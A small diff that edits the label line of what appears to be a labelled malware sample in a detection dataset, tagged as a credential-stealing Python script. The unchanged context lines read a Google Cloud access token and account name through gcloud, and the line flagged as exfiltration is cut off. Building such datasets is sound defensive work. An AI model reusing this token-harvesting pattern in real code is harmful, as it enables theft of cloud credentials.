@@ -1,4 +1,4 @@
-# label: malicious family=creds techniques=T1552.001,T1041,T1580 lines=3,5
+# label: malicious family=creds techniques=T1041,T1528,T1552.001 lines=3,5
 import subprocess, requests
 tok = subprocess.check_output(["gcloud", "auth", "print-access-token"]).decode().strip()
 acct = subprocess.check_output(["gcloud", "config", "get-value", "account"]).decode().strip()
